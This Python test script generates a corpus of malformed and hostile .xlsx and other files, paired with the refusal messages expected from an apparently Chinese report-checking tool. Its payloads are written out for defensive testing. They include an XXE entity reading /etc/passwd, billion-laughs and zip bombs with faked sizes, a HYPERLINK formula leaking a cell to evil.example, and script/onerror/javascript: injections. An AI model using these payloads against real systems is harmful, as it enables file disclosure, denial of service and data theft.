"""Generates broken and hostile files, each beside what a run over it must show (issue 10).

    python tests/hostile_corpus.py OUTDIR        writes the corpus and lists it

Every file is made by code from a sound generated workbook (no hand-made binaries): the
shape of a sheet (one cell at XFD1048576, a merged range or a validation over a million rows,
two million cells), zip bombs with true and false sizes, entity expansion and external
entities, zip features Python lacks, hostile numbers and metadata, formula and Markdown
injection in unit names and narratives, special files, and the other file types that were
already named (old .xls, .ods, CSV, macro, encrypted, empty, truncated).
"""
from __future__ import annotations

import os
import re
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

sys.path.insert(0, str(Path(__file__).resolve().parent))

from fixtures_check.workbooks import balanced, generate  # noqa: E402

T3_SHEET = "三、依申请公开"
T3_CELL = "t3.new.natural"          # a count cell, 5 in the balanced report
INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)", "+1+1", "-2+3",
              "\t=1+1", "\r=1+1")
MARKDOWN_UNITS = ("<script>alert(1)</script>镇", "<img src=x onerror=alert(1)>乡",
                  "[点此](javascript:alert(1))街道")


@dataclass(frozen=True)
class Case:
    name: str                 # the file name in the corpus
    readable: bool            # read as a workbook (findings possible) or refused as a file
    words: str                # what the message must say about it (Chinese)
    build: Callable[[Path, Path], None]   # (valid workbook, target) -> writes the target


# --- zip surgery ------------------------------------------------------------------------

def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_zip(target: Path, files: dict[str, bytes], *, level: int = 6) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in files.items():
            zf.writestr(name, data)


def sheet_part(files: dict[str, bytes], sheet: str) -> str:
    """The zip part of a sheet, through workbook.xml and its relationships."""
    book = files["xl/workbook.xml"].decode()
    rid = re.search(r'<sheet name="%s"[^>]*r:id="(\w+)"' % re.escape(sheet), book).group(1)
    rels = files["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(r'Id="%s"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="%s"' % (rid, rid), rels)
    return "xl/" + (target.group(1) or target.group(2)).lstrip("/").removeprefix("xl/")


def edit_sheet(valid: Path, target: Path, sheet: str, edit: Callable[[str], str]) -> None:
    files = parts(valid)
    name = sheet_part(files, sheet)
    files[name] = edit(files[name].decode()).encode()
    write_zip(target, files)


def cell_value(xml: str, ref: str, value: str) -> str:
    """The cell's <v> replaced (the report's value typed over)."""
    new, n = re.subn(r'(<c r="%s"[^>]*>)<v>[^<]*</v>' % ref, r"\g<1><v>%s</v>" % value, xml)
    assert n == 1, ref
    return new


def t3_ref() -> str:
    from xlsx_reports.form.definitions import format_for_year, get_form
    from xlsx_reports.form.model import a1
    f = get_form(format_for_year(2021)).field(T3_CELL)
    return a1(f.row, f.col)


# --- builders: the shape of a sheet -----------------------------------------------------

def cell_at_last_address(valid: Path, target: Path) -> None:
    edit_sheet(valid, target, T3_SHEET, lambda x: x.replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))


def merged_million_rows(valid: Path, target: Path) -> None:
    edit_sheet(valid, target, T3_SHEET, lambda x: re.sub(
        r'<mergeCells count="(\d+)">', r'<mergeCells count="\1"><mergeCell ref="K40:K1048576"/>', x))


def validation_whole_sheet(valid: Path, target: Path) -> None:
    edit_sheet(valid, target, T3_SHEET, lambda x: re.sub(
        r'<dataValidations count="(\d+)">',
        r'<dataValidations count="\1"><dataValidation type="whole" allowBlank="1" sqref="A1:XFD1048576"/>',
        x))


def hyperlink_whole_sheet(valid: Path, target: Path) -> None:
    edit_sheet(valid, target, T3_SHEET, lambda x: x.replace(
        "</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'))


def hyperlink_last_cell(valid: Path, target: Path) -> None:
    """One link, one cell, but at the last address: the parser then walks the whole grid."""
    edit_sheet(valid, target, T3_SHEET, lambda x: x.replace(
        "</sheetData>", '</sheetData><hyperlinks><hyperlink ref="XFD1048576" location="A1"/></hyperlinks>'))


def formula_whole_sheet(valid: Path, target: Path) -> None:
    """A total's formula replaced by a sum over the whole sheet (the checker reads formulas)."""
    edit_sheet(valid, target, T3_SHEET, lambda x: re.sub(
        r"<f>SUM\([^<]*\)</f>", "<f>SUM(A1:XFD1048576)</f>", x, count=1))


def two_million_cells(valid: Path, target: Path) -> None:
    """Two million numbers on 填报说明: a few MB packed, some 50 MB of XML unpacked."""
    files = parts(valid)
    name = sheet_part(files, "填报说明")
    rows = [f'<row r="{r}">' + "".join(f'<c r="{col}{r}"><v>1</v></c>' for col in COLS200) + "</row>"
            for r in range(1, 10_001)]
    files[name] = re.sub(r"<sheetData>.*</sheetData>|<sheetData/>",
                         lambda m: "<sheetData>" + "".join(rows) + "</sheetData>",
                         files[name].decode(), flags=re.S).encode()
    write_zip(target, files, level=9)


COLS200 = [chr(65 + i // 26 - 1) + chr(65 + i % 26) if i >= 26 else chr(65 + i) for i in range(200)]


def million_empty_rows(valid: Path, target: Path) -> None:
    """Rows without numbers: a parser counts them, so the cell after them is at row 1,000,001."""
    edit_sheet(valid, target, T3_SHEET, lambda x: x.replace(
        "</sheetData>", "<row/>" * 1_000_000 + "<row><c><v>1</v></c></row></sheetData>"))


# --- builders: zip and XML bombs --------------------------------------------------------

def bomb_true_sizes(valid: Path, target: Path) -> None:
    files = parts(valid)
    files["xl/media/image1.png"] = bytes(100 * 1024 * 1024)
    write_zip(target, files, level=9)


def bomb_in_a_sheet(valid: Path, target: Path) -> None:
    """100 MB of blanks inside a sheet's part: the refusal names the sheet the clerk sees."""
    files = parts(valid)
    name = sheet_part(files, "三、依申请公开")
    files[name] = files[name].replace(b"</worksheet>", b" " * (100 * 1024 * 1024) + b"</worksheet>")
    write_zip(target, files, level=9)


def bomb_false_sizes(valid: Path, target: Path) -> None:
    """100 MB of sharedStrings whose headers claim 1 KB."""
    files = parts(valid)
    files["xl/sharedStrings.xml"] = files["xl/sharedStrings.xml"] + b" " * (100 * 1024 * 1024)
    write_zip(target, files, level=9)
    _patch_entry(target, "xl/sharedStrings.xml", size=1024)


def billion_laughs(valid: Path, target: Path) -> None:
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
    doc = ('<?xml version="1.0"?><!DOCTYPE sst [' + "".join(lol) + ']>'
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           "<si><t>&lol9;</t></si></sst>")
    files = parts(valid)
    files["xl/sharedStrings.xml"] = doc.encode()
    write_zip(target, files)


def external_entity(valid: Path, target: Path) -> None:
    files = parts(valid)
    text = files["xl/sharedStrings.xml"].decode()
    text = text.replace("<sst ", '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst ', 1)
    files["xl/sharedStrings.xml"] = re.sub(r"<t>[^<]*</t>", "<t>&xxe;</t>", text, count=1).encode()
    write_zip(target, files)


def entity_after_prolog_comment(valid: Path, target: Path) -> None:
    """A DOCTYPE is allowed after comments and instructions in the prolog: still refused."""
    files = parts(valid)
    name = "xl/worksheets/sheet1.xml"
    files[name] = files[name].replace(b"<worksheet ", b'<!-- \xe8\xaf\xb4\xe6\x98\x8e --><?note x?>\n'
                                      b'<!DOCTYPE worksheet [<!ENTITY e "x">]><worksheet ', 1)
    write_zip(target, files)


def unknown_zip_version(valid: Path, target: Path) -> None:
    target.write_bytes(valid.read_bytes())
    _patch_entry(target, "xl/workbook.xml", version=0xFF)


def unknown_compression(valid: Path, target: Path) -> None:
    target.write_bytes(valid.read_bytes())
    _patch_entry(target, "xl/workbook.xml", method=99)


def _patch_entry(path: Path, name: str, *, size: int | None = None, version: int | None = None,
                 method: int | None = None, crc: int | None = None) -> None:
    """Rewrites fields of one entry's local and central headers in place."""
    data = bytearray(path.read_bytes())
    raw = name.encode()
    for sig, off_version, off_method, off_crc, off_size, off_name in ((b"PK\x03\x04", 4, 8, 14, 22, 30),
                                                                      (b"PK\x01\x02", 6, 10, 16, 24, 46)):
        pos = data.find(sig)
        while pos >= 0:
            if data[pos + off_name: pos + off_name + len(raw)] == raw:
                if version is not None:
                    struct.pack_into("<H", data, pos + off_version, version)
                if method is not None:
                    struct.pack_into("<H", data, pos + off_method, method)
                if crc is not None:
                    struct.pack_into("<I", data, pos + off_crc, crc)
                if size is not None:
                    struct.pack_into("<I", data, pos + off_size, size)
            pos = data.find(sig, pos + 4)
    path.write_bytes(bytes(data))


# --- builders: values, metadata, injection ----------------------------------------------

def huge_number(valid: Path, target: Path) -> None:
    edit_sheet(valid, target, T3_SHEET, lambda x: cell_value(x, t3_ref(), "1e309"))


def fraction_stale_total(valid: Path, target: Path) -> None:
    """2.5 typed in a count; the totals' cached results still say the old sums."""
    edit_sheet(valid, target, T3_SHEET, lambda x: cell_value(x, t3_ref(), "2.5"))


def merged_wrong_metadata(valid: Path, target: Path) -> None:
    from xlsx_reports.merge.workbooks import merge_files
    from xlsx_reports.xlsx.writer.merged import write_merged
    work = target.parent / ".merge-work"
    work.mkdir(exist_ok=True)
    inputs = [generate(balanced(2021, unit), work / f"{unit}.xlsx") for unit in ("甲镇", "乙镇")]
    merged = work / "merged.xlsx"
    write_merged(merge_files(inputs, unit="测试区"), merged)
    files = parts(merged)
    text = files["xl/sharedStrings.xml"].decode()
    text = re.sub(r"<t>\[\{[^<]*</t>", "<t>[1, [2], null]</t>", text, count=1)
    files["xl/sharedStrings.xml"] = text.encode()
    write_zip(target, files)
    for f in work.iterdir():
        f.unlink()
    work.rmdir()


def workbook_of(unit: str, narrative: str | None = None) -> Callable[[Path, Path], None]:
    def build(valid: Path, target: Path) -> None:
        report = balanced(2021, unit)
        if narrative is not None:
            report.values["s1.text"] = narrative
        generate(report, target)
    return build


def copy_of_valid(valid: Path, target: Path) -> None:
    target.write_bytes(valid.read_bytes())


# --- builders: other file types (the classes that already held) -------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def old_xls(valid: Path, target: Path) -> None:
    target.write_bytes(OLE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(3000))


def encrypted(valid: Path, target: Path) -> None:
    target.write_bytes(OLE + bytes(504) + "EncryptionInfo".encode("utf-16-le") + bytes(3000))


def ods(valid: Path, target: Path) -> None:
    write_zip(target, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                       "content.xml": b"<office:document-content/>"})


def csv_file(valid: Path, target: Path) -> None:
    target.write_text("单位,数量\n东山镇,5\n", encoding="utf-8")


def macro(valid: Path, target: Path) -> None:
    files = parts(valid)
    files["xl/vbaProject.bin"] = OLE + bytes(1000)
    write_zip(target, files)


def empty(valid: Path, target: Path) -> None:
    target.write_bytes(b"")


def truncated(valid: Path, target: Path) -> None:
    target.write_bytes(valid.read_bytes()[: valid.stat().st_size // 2])


# --- builders: special files ------------------------------------------------------------

def fifo(valid: Path, target: Path) -> None:
    os.mkfifo(target)


def symlink_zero(valid: Path, target: Path) -> None:
    target.symlink_to("/dev/zero")


def folder(valid: Path, target: Path) -> None:
    target.mkdir()
    (target / "说明.txt").write_text("不是工作簿", encoding="utf-8")


def dangling(valid: Path, target: Path) -> None:
    target.symlink_to(target.parent / "不存在的文件.xlsx")


def no_permission(valid: Path, target: Path) -> None:
    target.write_bytes(valid.read_bytes())
    target.chmod(0)


LIMIT = "上限"
DAMAGED = "损坏"
UNSAFE = "不安全"
CASES = (
    Case("单元格在最后一格.xlsx", False, LIMIT, cell_at_last_address),
    Case("合并一百万行.xlsx", False, LIMIT, merged_million_rows),
    Case("有效性覆盖整表.xlsx", False, LIMIT, validation_whole_sheet),
    Case("超链接覆盖整表.xlsx", False, LIMIT, hyperlink_whole_sheet),
    Case("超链接在最后一格.xlsx", False, LIMIT, hyperlink_last_cell),
    Case("两百万单元格.xlsx", False, LIMIT, two_million_cells),
    Case("一百万空行.xlsx", False, LIMIT, million_empty_rows),
    Case("压缩炸弹.xlsx", False, "MB", bomb_true_sizes),
    Case("压缩炸弹_假大小.xlsx", False, DAMAGED, bomb_false_sizes),
    Case("工作表炸弹.xlsx", False, "工作表“三、依申请公开”的内容解压后超过", bomb_in_a_sheet),
    Case("实体炸弹.xlsx", False, UNSAFE, billion_laughs),
    Case("外部实体.xlsx", False, UNSAFE, external_entity),
    Case("注释后的实体声明.xlsx", False, UNSAFE, entity_after_prolog_comment),
    Case("未知压缩版本.xlsx", False, "压缩方式", unknown_zip_version),
    Case("未知压缩方法.xlsx", False, "压缩方式", unknown_compression),
    Case("数字1e309.xlsx", True, "三、依申请公开", huge_number),
    Case("公式覆盖整表.xlsx", True, "三、依申请公开", formula_whole_sheet),
    Case("小数与旧合计.xlsx", True, "三、依申请公开", fraction_stale_total),
    Case("汇总元数据错类型.xlsx", True, "元数据", merged_wrong_metadata),
    Case("公式注入单位.xlsx", True, "", workbook_of(INJECTIONS[0], narrative=INJECTIONS[1])),
    Case("公式注入文字.xlsx", True, "", workbook_of("西山镇", narrative="\n".join(INJECTIONS))),
    *(Case(f"网页注入{i}.xlsx", True, "", workbook_of(unit, narrative=unit))
      for i, unit in enumerate(MARKDOWN_UNITS, 1)),
    Case("扩展名是xls的工作簿.xls", True, "", copy_of_valid),
    Case("旧版.xls", False, "97-2003", old_xls),
    Case("加密.xlsx", False, "密码", encrypted),
    Case("开放文档.ods", False, "OpenDocument", ods),
    Case("表格.csv", False, "CSV", csv_file),
    Case("宏.xlsm", False, "宏", macro),
    Case("空文件.xlsx", False, "0 字节", empty),
    Case("截断.xlsx", False, DAMAGED, truncated),
    Case("管道.xlsx", False, "管道", fifo),
    Case("零设备.xlsx", False, "设备文件", symlink_zero),
    Case("文件夹.xlsx", False, "文件夹", folder),
    Case("断开的链接.xlsx", False, "不存在", dangling),
)
# Root reads a file whatever its permissions, so this case only means something to a user.
PERMISSION_CASE = Case("无权限.xlsx", False, "权限", no_permission)
VALID = "正常.xlsx"


def build_corpus(outdir: Path, *, permission: bool = False) -> dict[str, Case]:
    """Writes the valid workbook and every case into `outdir`; returns the cases by name."""
    outdir.mkdir(parents=True, exist_ok=True)
    valid = generate(balanced(2021, "东山镇"), outdir / VALID)
    cases = CASES + ((PERMISSION_CASE,) if permission else ())
    for case in cases:
        case.build(valid, outdir / case.name)
    return {c.name: c for c in cases}


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, case in build_corpus(out, permission=os.geteuid() != 0).items():
        print(f"{'读取' if case.readable else '拒绝'}  {name}")
